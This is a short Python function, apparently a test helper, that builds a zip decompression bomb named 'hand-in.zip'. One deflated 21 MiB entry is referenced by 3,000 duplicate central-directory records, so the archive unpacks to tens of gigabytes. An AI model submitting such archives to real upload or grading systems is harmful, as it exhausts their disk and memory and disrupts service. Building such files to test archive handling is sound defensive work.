def build(folder, files, bait):
    path = folder / "hand-in.zip"
    content = bytes(21 << 20)
    packed = deflated(content)
    first = local(b"bomb.py", packed, content)
    table = central(b"bomb.py", packed, content, 0) * 3_000
    path.write_bytes(first + table + end(3_000, len(table), len(first)))
    return path
